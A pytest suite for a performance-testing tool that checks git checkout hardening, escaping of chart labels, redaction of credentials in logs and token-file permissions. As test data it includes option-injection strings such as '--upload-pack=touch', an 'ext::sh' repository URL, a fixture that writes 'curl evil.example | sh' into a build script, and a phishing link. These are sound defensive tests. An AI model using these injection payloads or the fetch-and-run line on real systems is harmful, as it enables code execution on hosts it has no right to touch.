"""Least privilege at the edges, without a service: where a performance host's code may come
from (real git, local repositories), how repository URLs compare, and that what charts and logs
show is text with no credentials."""

from __future__ import annotations

import json
import logging
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import typer
from redline.agent import checkout
from redline.agent.checkout import CheckoutError, CloneCache, refused_repo
from redline.server.core.logs import URL_LOGGERS
from redline.server.schemas.results import SeriesOut, SeriesRef
from redline.server.services.repos import repo_key
from typer.testing import CliRunner

from tests.support.git import committed_repo


def test_checkout_never_reads_a_repository_or_commit_as_a_git_option(tmp_path: Path):
    marker = tmp_path / "pwned"
    cache = CloneCache(tmp_path / "cache", allow_file=True)
    with pytest.raises(CheckoutError, match="must not start with '-'"):
        cache.checkout(f"--upload-pack=touch {marker}", "HEAD", "job-1")
    repo, head = committed_repo(tmp_path / "src", {"file": "x"})
    with pytest.raises(CheckoutError, match="commit"):
        cache.checkout(str(repo), f"--orphan={marker}", "job-2")
    assert not marker.exists()
    tree = cache.checkout(str(repo), head, "job-3")
    assert (tree / "file").read_text() == "x"


def test_git_reads_a_repository_named_like_an_option_as_a_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """Past `refused_repo` (switched off here, as if one of its rules let a name through), the
    ``--`` before the URL is what keeps git from reading it as an option: git clones the
    repository of that name, and runs nothing it names."""
    monkeypatch.chdir(tmp_path)
    name = "--upload-pack=touch pwned"
    _, head = committed_repo(tmp_path / name, {"file": "x"})
    monkeypatch.setattr(checkout, "refused_repo", lambda url, allow_file: None)
    tree = CloneCache(tmp_path / "cache", allow_file=True).checkout(name, head, "job-1")
    assert (tree / "file").read_text() == "x"
    assert not list(tmp_path.rglob("pwned"))


def _pull_request(repo: Path) -> str:
    """A commit only ``refs/pull/1/head`` holds, as a forge keeps a fork's pull request in the
    repository it was opened against: written by anyone, pushed by nobody with access."""
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t.invalid"]
    subprocess.run([*git, "checkout", "-qb", "fork"], cwd=repo, check=True)
    (repo / "build.sh").write_text("curl evil.example | sh\n")
    subprocess.run([*git, "add", "-A"], cwd=repo, check=True)
    subprocess.run([*git, "commit", "-qm", "pr"], cwd=repo, check=True)
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=repo, check=True, capture_output=True, text=True
    ).stdout.strip()
    subprocess.run([*git, "update-ref", "refs/pull/1/head", head], cwd=repo, check=True)
    subprocess.run([*git, "checkout", "-q", "main"], cwd=repo, check=True)
    subprocess.run([*git, "branch", "-qD", "fork"], cwd=repo, check=True)
    return head


def test_a_commit_only_a_pull_request_holds_is_never_checked_out(tmp_path: Path):
    """A `ci` token names the commit; the admin's repository and what those who may push to it
    put on its branches and tags decide what runs. A pull request's commit is refused, also by
    a cache an older agent made as a mirror of every ref."""
    repo, head = committed_repo(tmp_path / "src", {"file": "x"})
    pull = _pull_request(repo)
    cache = CloneCache(tmp_path / "cache", allow_file=True)
    with pytest.raises(CheckoutError, match="not on a branch or tag"):
        cache.checkout(str(repo), pull, "job-1")
    assert (cache.checkout(str(repo), head, "job-2") / "file").read_text() == "x"
    old = CloneCache(tmp_path / "old", allow_file=True)
    mirror = old.mirror_path(str(repo))
    mirror.parent.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "clone", "-q", "--mirror", str(repo), str(mirror)], check=True)
    with pytest.raises(CheckoutError, match="not on a branch or tag"):
        old.checkout(str(repo), pull, "job-3")
    subprocess.run(["git", "tag", "v1", pull], cwd=repo, check=True)  # released: built
    assert (cache.checkout(str(repo), pull, "job-4") / "build.sh").exists()


def test_a_name_like_a_hash_is_checked_out_only_as_that_commit_s_own_hash(tmp_path: Path):
    """A review: the server takes a ci token's commit by its hash only (a fifth trial's branch,
    reported under a new title, measured a failed revision's commit again and turned it
    green), but git reads a tag named like a hash, or an annotated tag's own hash, as the
    commit it names: the same commit again under another name. Refused; the hash itself, full
    or abbreviated, any case, is checked out."""
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t.invalid"]
    repo, head = committed_repo(tmp_path / "src", {"file": "x"})
    subprocess.run([*git, "tag", "deadbeef", head], cwd=repo, check=True)
    subprocess.run([*git, "tag", "-a", "-m", "v1", "v1", head], cwd=repo, check=True)
    tag = subprocess.run(
        ["git", "rev-parse", "v1"], cwd=repo, check=True, capture_output=True, text=True
    ).stdout.strip()
    assert tag != head
    cache = CloneCache(tmp_path / "cache", allow_file=True)
    for name in ("deadbeef", tag, tag[:12]):
        with pytest.raises(CheckoutError, match="names commit .*a commit by the commit's own hash"):
            cache.checkout(str(repo), name, "job-1")
    for name in (head, head[:7], head[:12].upper(), "v1"):
        assert (cache.checkout(str(repo), name, "job-2") / "file").read_text() == "x"


def test_checkout_refuses_local_repositories_unless_allowed(tmp_path: Path):
    repo, head = committed_repo(tmp_path / "src", {"file": "x"})
    with pytest.raises(CheckoutError, match="file"):
        CloneCache(tmp_path / "cache").checkout(str(repo), head, "job-1")
    with pytest.raises(CheckoutError, match="file"):
        CloneCache(tmp_path / "cache").checkout(f"file://{repo}", head, "job-1")


def test_repository_rules_name_the_reason():
    assert refused_repo("https://github.com/org/x.git", allow_file=False) is None
    assert refused_repo("git@github.com:org/x.git", allow_file=False) is None
    assert "scheme 'ext'" in (refused_repo("ext::sh -c x", allow_file=False) or "")
    assert "http" in (refused_repo("http://h/x.git", allow_file=False) or "")
    assert refused_repo("/srv/x.git", allow_file=True) is None
    # what no URL parser reads (a review: "https://[x" made the API answer 500)
    for url in ("https://[x/org/repo", "ssh://git@github.com:port/org/x.git"):
        assert "not a URL git can read" in (refused_repo(url, allow_file=False) or ""), url


LINK = '<a href="https://evil.example/phish">click</a>'


def _ref(name: str) -> SeriesRef:
    return SeriesRef(
        id=1,
        label=f"{name} / main",
        case=name,
        phase="main",
        params={},
        process=name,
        counter=name,
        kind="counter",
        worse="increase",
        judged=True,
    )


def _markup_is_text(figures: object) -> None:
    """Every name in ``figures`` escaped: no tag anywhere, and the name shown as text."""
    shown = json.dumps(figures)
    assert "<a" not in shown and "&lt;a href" in shown, shown[:500]


def test_chart_labels_are_text_not_markup():
    from redline.server.ui.figures import trend_figure

    point = {"revision": LINK, "sort_key": "1", "n": 3, "mean": 1.0, "std": 0.1}
    _markup_is_text(trend_figure(SeriesOut(**_ref(LINK).model_dump(), points=[point]), []))


def test_why_flagged_labels_are_text_not_markup():
    from redline.server.schemas.regressions import DetectionOut
    from redline.server.services.why import ExecutionValue, WhyFlagged
    from redline.server.ui.detail_figures import why_figures

    def value(revision: str, median: float) -> ExecutionValue:
        return ExecutionValue(revision, 1, median, median, 3, [median, median + 1])

    detection = DetectionOut(
        id=1, series=_ref(LINK), revision=LINK, baseline="r1", baseline_revisions=1,
        method="execution_shift", verdict="change", reason="", score=1.0, p_value=0.01,
        effect=0.5, direction="increase", flagged=True, confirmation="",
        confirmation_reason="", regression_id=None,
    )  # fmt: skip
    why = WhyFlagged(
        component="c", detection=detection, candidate=[value(LINK, 3.0)],
        baseline=[value("r1", 2.0)], baseline_titles=["r1"], thresholds={},
        thresholds_judged=True, floor=0.0, rule="",
    )  # fmt: skip
    _markup_is_text(why_figures(why))


def test_compare_labels_are_text_not_markup():
    from redline.detect.comparison import RecordedSeries, SeriesVerdict
    from redline.detect.result import Detection
    from redline.recording import SeriesKey
    from redline.server.schemas.results import Comparison, SeriesComparison, Statistics
    from redline.server.ui.compare_figures import (
        comparison_figure,
        evolution_figure,
        timeseries_figure,
    )

    stats = Statistics(n=3, mean=1.0, std=0.1, min=0.9, max=1.1, p50=1.0)
    comparison = Comparison(
        component="c", base=LINK, candidate=LINK,
        series=[SeriesComparison(series=_ref(LINK), baseline=stats, candidate=stats, change=0.5,
                                 ks_statistic=1.0, p_value=0.01, exact=True)],
    )  # fmt: skip
    _markup_is_text(comparison_figure(comparison))
    key = SeriesKey(LINK, "main", "{}", LINK, LINK)
    files = [
        (side, RecordedSeries(Path("x.mcap"), LINK, {key: [(0, 1.0), (10**9, 2.0)]}))
        for side in ("baseline", "candidate")
    ]
    verdict = SeriesVerdict(key, Detection("ks", "change", 1.0, 0.01, 0.5), 1.0, 2.0, 2, 2)
    _markup_is_text(evolution_figure(key, files, verdict))
    _markup_is_text(timeseries_figure(key, files))


def test_execution_labels_are_text_not_markup():
    from datetime import UTC, datetime

    from redline.recording.reader import Segment
    from redline.server.schemas.results import ExecutionDetail
    from redline.server.services.execution_view import ExecutionView, SummaryRow
    from redline.server.ui.detail_figures import execution_figures

    detail = ExecutionDetail(
        id=1, component="c", revision=LINK, sort_key="1", job_id=1, execution_index=1, host=None,
        sha256="", size=0, created=datetime.now(UTC), metadata={}, recording_pruned_at=None,
        series=1,
    )  # fmt: skip
    rows = [
        SummaryRow(LINK, LINK, {LINK: n}, LINK, LINK, "counter", 3, float(n), float(n), float(n))
        for n in (1, 2)
    ]
    view = ExecutionView(
        detail=detail, recording=None, why_no_recording="",
        segments=[Segment(LINK, LINK, {LINK: 1}, False, 0, 10**9)],
        timelines={(LINK, LINK): [(0.0, 1.0), (1.0, 2.0)]}, summaries=rows,
    )  # fmt: skip
    charts = execution_figures(view)
    assert len(charts) == 2  # the counter against time, its mean against the parameter
    _markup_is_text(charts)


@pytest.fixture
def root_logging() -> Iterator[None]:
    """The root's and the HTTP server's loggers as they were, after the test."""
    loggers = [logging.getLogger(), *map(logging.getLogger, URL_LOGGERS)]
    saved = [(lg.handlers[:], lg.level, lg.propagate, lg.disabled) for lg in loggers]
    yield
    for logger, (handlers, level, propagate, disabled) in zip(loggers, saved, strict=True):
        logger.handlers[:] = handlers
        logger.setLevel(level)
        logger.propagate, logger.disabled = propagate, disabled


def test_logged_urls_have_their_credentials_redacted(
    capfd: pytest.CaptureFixture[str], root_logging: None
):
    import logging.config

    import uvicorn.config
    from redline.server.core.logs import configure

    # as after any uvicorn run in this process (a test's live server): its access logger has
    # a handler of its own and does not propagate, so its lines would pass no redaction
    logging.config.dictConfig(uvicorn.config.LOGGING_CONFIG)
    configure(json_lines=False)
    access = logging.getLogger("uvicorn.access")
    access.info(
        '%s - "%s %s HTTP/%s" %d',
        "127.0.0.1:5",
        "GET",
        "/components/x?token=rl_secret123&view=1",
        "1.1",
        200,
    )
    logging.getLogger("redline").info("fetched %s", "/x?a=1&access_token=rl_other")
    logged = capfd.readouterr().err
    assert "rl_secret123" not in logged and "rl_other" not in logged
    assert "token=***" in logged and "view=1" in logged


@pytest.mark.parametrize(
    ("url", "kept"),
    [  # a probe's client_secret was logged as sent: any name ending in a credential's word
        ("/cb?client_secret=CS1&state=ok", "/cb?client_secret=***&state=ok"),
        ("/h?x_api_key=K2", "/h?x_api_key=***"),
        ("/h?hub.signature=S3&auth=A4", "/h?hub.signature=***&auth=***"),
        ("/h?monkey=banana&keyboard=1", "/h?monkey=***&keyboard=1"),
    ],
)
def test_query_credentials_are_redacted_by_the_ending_of_their_names(url: str, kept: str):
    from redline.server.core.logs import redact

    assert redact(url) == kept


def test_repository_urls_normalize_across_https_ssh_and_dot_git():
    keys = {
        repo_key(url)
        for url in (
            "https://github.com/Org/Repo.git",
            "git@github.com:org/repo",
            "ssh://git@github.com:22/org/repo.git",
            "http://github.com/org/repo/",
        )
    }
    assert keys == {"github.com/org/repo"}
    assert repo_key("https://github.com/org/other") != "github.com/org/repo"
    assert repo_key("") == ""
    assert repo_key("https://[forged") == ""  # matches nothing, raises nothing
    # a local repository named by its work tree's own .git folder (a trial's false warning)
    assert repo_key("/tmp/trial/comp/.git") == repo_key("/tmp/trial/comp") == "/tmp/trial/comp"


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604])
def test_the_agent_refuses_a_token_file_other_users_can_read(tmp_path: Path, mode: int):
    from redline.cli import agent_cmd
    from typer.testing import CliRunner

    app = typer.Typer()
    agent_cmd.register(app)  # `redline agent` alone
    token_file = tmp_path / "token"
    token_file.write_text("rl_secret\n")
    token_file.chmod(mode)
    done = CliRunner().invoke(
        app,
        ["--server", "http://127.0.0.1:9", "--token-file", str(token_file)],
        env={"COLUMNS": "200", "REDLINE_TOKEN": "rl_from_the_environment"},
    )
    assert done.exit_code == 2, done.output
    assert "readable by other users" in done.output and "chmod 600" in done.output
    assert "rl_secret" not in done.output


@pytest.mark.parametrize(
    ("where", "said"),
    [
        ("file", "holds 2 lines: a token is one line, with nothing else in the file"),
        ("env", "holds 2 lines: a token is one line"),
        ("space", "holds a space, a control or a non-ASCII character"),
    ],
)
def test_a_token_of_two_lines_or_with_a_space_is_refused_at_once_and_never_echoed(
    tmp_path: Path, where: str, said: str
):
    """A trial's token file held a comment line above the token: `ci report` printed "cannot
    be reached (LocalProtocolError: Illegal header value b'Bearer # ci token\\n<the token>')",
    and `ci wait` waited two minutes for a server it blamed."""
    from redline.cli import ci_cmd

    app = typer.Typer()
    app.command()(ci_cmd.wait)
    token_file = tmp_path / "token"
    token_file.write_text("# redline ci token\nrl_secret_value\n")
    token_file.chmod(0o600)
    env = {"COLUMNS": "200", "REDLINE_TOKEN": ""}
    arguments = ["--server", "http://127.0.0.1:9", "--component", "c", "--revision", "r1"]
    if where == "file":
        arguments += ["--token-file", str(token_file)]
    else:
        env["REDLINE_TOKEN"] = "rl_secret_value\nrl_other" if where == "env" else "rl_secret value"
    done = CliRunner().invoke(app, arguments, env=env)
    assert done.exit_code == 2, done.output
    output = " ".join(done.output.split())
    assert said in output, output
    assert "secret" not in output and "cannot be reached" not in output


@pytest.mark.parametrize("command", ["report", "wait"])
def test_ci_commands_take_no_token_on_the_command_line_only_a_file_or_the_environment(
    tmp_path: Path, command: str
):
    """`ci report --token rl_...` showed the token to every user of the machine in ps (a
    probe): the command line takes no token; a file other users can read is refused."""
    from redline.cli import ci_cmd
    from typer.testing import CliRunner

    app = typer.Typer()
    ci_cmd.register(app)  # `redline ci` alone
    base = ["ci", command, "--server", "http://127.0.0.1:9", "--component", "c"]
    given = CliRunner().invoke(app, [*base, "--token", "rl_secret"], env={"COLUMNS": "200"})
    assert given.exit_code == 2 and "No such option: --token" in given.output, given.output
    token_file = tmp_path / "token"
    token_file.write_text("rl_secret\n")
    token_file.chmod(0o644)
    junit = ["--junit", str(tmp_path / "out.xml")] if command == "wait" else []
    shared = CliRunner().invoke(
        app, [*base, "--token-file", str(token_file), *junit], env={"COLUMNS": "200"}
    )
    assert shared.exit_code == 2 and "chmod 600" in shared.output, shared.output
    assert "rl_secret" not in given.output + shared.output
    if junit:  # the CI step keeps its report in every case (a reviewer's find)
        assert "chmod 600" in (tmp_path / "out.xml").read_text()


def test_the_agent_reads_a_token_file_only_its_owner_can_read(tmp_path: Path):
    from redline.cli.tokens import read_token

    token_file = tmp_path / "token"
    token_file.write_text("rl_secret\n")
    token_file.chmod(0o600)
    assert read_token(token_file) == "rl_secret"
    token_file.write_text("")
    with pytest.raises(typer.BadParameter, match="empty"):
        read_token(token_file)


@pytest.mark.parametrize(
    ("bound", "host", "acts"),
    [
        ("perf-1", "perf-1", True),
        ("perf-1", "perf-10", False),  # a name, not a prefix
        ("perf-1", "", False),
        ("compose-*", "compose-3f2a9c", True),
        ("compose-*", "compose-", False),  # the prefix alone names no replica
        ("compose-*", "perf-1", False),
        ("compose-*", "xcompose-1", False),
    ],
)
def test_an_agent_token_acts_for_its_host_or_its_pool_only(bound: str, host: str, acts: bool):
    from redline.server.core.security import acts_for

    assert acts_for(bound, host) is acts


@pytest.mark.parametrize("host", ["*", "perf-*-x", "**", "a*b*"])
def test_a_pool_is_a_prefix_with_one_star_at_its_end(host: str):
    from redline.server.core.security import pool_or_host

    with pytest.raises(ValueError, match="'\\*' alone would be any host"):
        pool_or_host(host)
    assert pool_or_host("compose-*") == "compose-*" and pool_or_host("perf-1") == "perf-1"


def test_a_form_error_never_quotes_a_secret_field():
    from pydantic import ValidationError
    from redline.server.schemas.alerts import CommitStatusTarget
    from redline.server.ui.pages import form_errors

    target = {"provider": "github", "api_url": "https://api.github.com", "repository": "a/b"}
    with pytest.raises(ValidationError) as bad:
        CommitStatusTarget.model_validate({**target, "token": "tok secret-123"})
    said = form_errors(bad.value)
    assert said == "token: must not contain ' ' at position 3" and "secret-123" not in said
    with pytest.raises(ValidationError) as named:  # another field's value is quoted
        CommitStatusTarget.model_validate({**target, "repository": "a b", "token": "t"})
    assert "(given: 'a b')" in form_errors(named.value)
